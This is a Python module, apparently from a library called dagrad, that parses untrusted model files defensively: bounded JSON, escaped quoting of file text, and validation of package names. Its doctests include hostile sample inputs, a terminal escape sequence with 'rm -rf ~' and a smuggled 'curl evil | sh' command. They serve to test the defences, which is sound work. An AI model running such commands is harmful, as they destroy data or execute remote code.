"""Reading what a file says without believing it: bounded JSON, quoted text, errors naming file and part.

A model file may come from anyone. Everything taken from one is data: it is
parsed with limits (no duplicate keys, no integers longer than
``MAX_INT_DIGITS`` digits, nesting bounded by the caller's checks), and any
text from it is shown quoted, with control characters escaped and long values
cut, so a crafted file can neither crash the parser with a raw exception nor
write escape sequences to a terminal.
"""

from __future__ import annotations

import json
import re
import reprlib
from typing import Any, Iterable

from ..errors import FormatError

__all__ = ["MAX_INT_DIGITS", "Source", "quote", "is_distribution_name", "parse_json", "depth"]

MAX_INT_DIGITS = 20  # every integer dagrad writes (sizes, counts, attrs) fits in 64 bits

_REPR = reprlib.Repr()
_REPR.maxstring = 80
_REPR.maxother = 80
_REPR.maxlist = _REPR.maxtuple = _REPR.maxdict = 6
_REPR.maxlevel = 3


def quote(value: Any) -> str:
    """``value`` as Python would print it in code, cut to a few dozen characters.

    Strings come out quoted with every non-printable character escaped
    (``\\x1b``, ``\\n``, ``\\u202e``), so file text cannot act on a terminal.

    >>> print(quote("dagrad-fancy"))
    'dagrad-fancy'
    >>> print(quote("\\x1b]0;pwned\\x07 run: rm -rf ~"))
    '\\x1b]0;pwned\\x07 run: rm -rf ~'
    >>> len(quote("x" * 10_000)) < 100
    True
    """
    return _REPR.repr(value)


_DISTRIBUTION = re.compile(r"^([A-Z0-9]|[A-Z0-9][A-Z0-9._-]{0,98}[A-Z0-9])$", re.IGNORECASE)


def is_distribution_name(name: Any) -> bool:
    """True for a valid Python distribution name (PEP 508), the only kind worth a ``pip install`` hint.

    >>> is_distribution_name("dagrad-activations"), is_distribution_name("x; curl evil | sh")
    (True, False)
    """
    return isinstance(name, str) and bool(_DISTRIBUTION.match(name))


class Source:
    """A file being read: makes the ``FormatError`` that names it and the part that is wrong."""

    def __init__(self, path: str, kind: str = "model file"):
        self.path = path
        self.kind = kind

    def error(self, part: Any, detail: str) -> FormatError:
        """The error for ``part`` (a string, or anything whose ``str`` names it; None for the whole file)."""
        part = None if part is None else str(part)
        where = f"{self.kind} {self.path!r}" + (f": {part}" if part else "")
        return FormatError(f"{where}: {detail}", path=self.path, part=part)


class _Refused(ValueError):
    """Raised by the parse hooks; the message says what was refused."""


def _object(pairs: list) -> dict:
    result = dict(pairs)
    if len(result) != len(pairs):
        seen: set = set()
        dupe = next(k for k, _ in pairs if k in seen or seen.add(k))
        raise _Refused(f"the key {quote(dupe)} appears twice in one object")
    return result


def _integer(text: str) -> int:
    digits = len(text.lstrip("-"))
    if digits > MAX_INT_DIGITS:
        raise _Refused(f"an integer of {digits} digits (at most {MAX_INT_DIGITS})")
    return int(text)


def parse_json(data: "bytes | str", source: Source, part: str) -> Any:
    """Parse UTF-8 JSON from a file, refusing duplicate keys and oversized integers, with a ``FormatError``.

    Deep nesting ends in Python's recursion limit, reported the same way.
    """
    try:
        text = data if isinstance(data, str) else data.decode("utf-8")
        return json.loads(text, object_pairs_hook=_object, parse_int=_integer)
    except UnicodeDecodeError as exc:
        raise source.error(part, f"is not UTF-8 text ({exc.reason} at byte {exc.start})") from None
    except _Refused as exc:
        raise source.error(part, f"is refused: {exc}") from None
    except json.JSONDecodeError as exc:
        raise source.error(part, f"is not valid JSON: {exc.msg} at line {exc.lineno} column {exc.colno}") from None
    except RecursionError:
        raise source.error(part, "is refused: JSON nested too deeply") from None
    except ValueError as exc:  # e.g. a float too long to convert
        raise source.error(part, f"is not valid JSON: {quote(str(exc))}") from None


def depth(value: Any, limit: int) -> int:
    """How deeply lists and objects nest in ``value``, counting only up to ``limit + 1`` (no recursion)."""
    deepest = 0
    stack: list[tuple[Any, int]] = [(value, 0)]
    while stack:
        item, level = stack.pop()
        if isinstance(item, (list, dict)):
            level += 1
            deepest = max(deepest, level)
            if level > limit:
                return level
            children: Iterable = item.values() if isinstance(item, dict) else item
            stack.extend((child, level) for child in children)
    return deepest
